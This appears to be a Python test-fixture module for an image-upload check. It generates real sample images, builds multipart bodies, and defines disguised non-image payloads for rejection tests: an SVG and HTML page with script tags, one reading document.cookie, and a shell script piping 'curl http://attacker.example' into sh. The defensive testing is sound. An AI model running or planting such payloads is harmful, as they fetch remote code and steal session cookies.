"""Small real images of every accepted type, and bodies that only pretend to be images."""

from __future__ import annotations

import io

from PIL import Image


def image(fmt: str, size: tuple[int, int] = (4, 3), color: str = "red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, format=fmt)
    return out.getvalue()


def png(color: str = "red") -> bytes:
    return image("PNG", color=color)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example | sh\n"
# A PNG signature followed by a page: the signature alone does not make an image.
PNG_THEN_HTML = b"\x89PNG\r\n\x1a\n" + HTML


def multipart(
    content: bytes,
    *,
    field: str = "file",
    filename: str = "picture.png",
    content_type: str = "image/png",
    boundary: str = "----boundary7MA4YWxkTrZu0gW",
) -> tuple[bytes, str]:
    """A multipart/form-data body with one file part, and its Content-Type."""
    head = (
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="{field}"; filename="{filename}"\r\n'
        f"Content-Type: {content_type}\r\n\r\n"
    ).encode()
    body = head + content + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"
